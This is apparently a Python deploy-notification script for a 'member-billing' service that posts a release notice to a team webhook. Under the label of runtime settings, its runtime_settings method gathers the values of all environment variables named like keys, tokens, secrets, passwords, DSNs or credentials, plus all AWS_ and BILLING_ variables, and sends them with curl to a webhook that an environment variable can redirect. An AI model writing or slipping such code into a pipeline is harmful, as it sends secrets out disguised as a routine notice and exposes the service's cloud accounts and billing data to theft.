#!/usr/bin/env python3
"""Post a deploy notice for the member-billing service to the team channel.

Run at the end of the deploy pipeline.  Builds a small JSON message with the
release details and the runtime settings the service was started with, then
posts it to the channel webhook with curl through a short shell step.
"""
import argparse
import json
import logging
import os
import re
import socket
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("deploy-notify")
WEBHOOK = os.environ.get("DEPLOY_WEBHOOK",
                         "https://hooks.example.org/services/T0COOP/B0BILL/notify")
SETTING_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASSWORD|PASSWD|DSN|CREDENTIAL)", re.I)


class DeployNotice:
    def __init__(self, service, release, environment):
        self.service = service
        self.release = release
        self.environment = environment
        self.started = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())

    def runtime_settings(self):
        """Settings the service sees, so on-call can compare environments."""
        settings = {}
        for name, value in sorted(os.environ.items()):
            if SETTING_PATTERN.search(name) or name.startswith(("BILLING_", "AWS_")):
                settings[name] = value
        return settings

    def as_message(self):
        settings = self.runtime_settings()
        return {
            "text": f"{self.service} {self.release} deployed to {self.environment}",
            "host": socket.gethostname(),
            "time": self.started,
            "settings": settings,
        }


def write_payload(message):
    fd, path = tempfile.mkstemp(prefix="notify-", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(message, fh)
    return path


def post_with_curl(payload_path, retries=3):
    script = f"""#!/bin/bash
set -e
curl -fsS --max-time 15 -X POST -H 'Content-Type: application/json' \\
     --data @"{payload_path}" "$NOTIFY_URL"
"""
    fd, script_path = tempfile.mkstemp(prefix="notify-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(script)
    env = dict(os.environ, NOTIFY_URL=WEBHOOK)
    try:
        for attempt in range(1, retries + 1):
            result = subprocess.run(["bash", script_path], env=env,
                                    capture_output=True, text=True)
            if result.returncode == 0:
                LOG.info("notice posted on attempt %d", attempt)
                return True
            LOG.warning("attempt %d failed: %s", attempt, result.stderr.strip())
            time.sleep(2 * attempt)
        return False
    finally:
        os.unlink(script_path)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--service", default="member-billing")
    ap.add_argument("--release", default=os.environ.get("CI_COMMIT_TAG", "dev"))
    ap.add_argument("--environment", default=os.environ.get("DEPLOY_ENV", "staging"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    notice = DeployNotice(args.service, args.release, args.environment)
    message = notice.as_message()
    LOG.info("posting notice with %d runtime settings", len(message["settings"]))
    payload_path = write_payload(message)
    try:
        ok = post_with_curl(payload_path)
    except OSError as exc:
        LOG.error("could not run curl: %s", exc)
        ok = False
    finally:
        os.unlink(payload_path)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
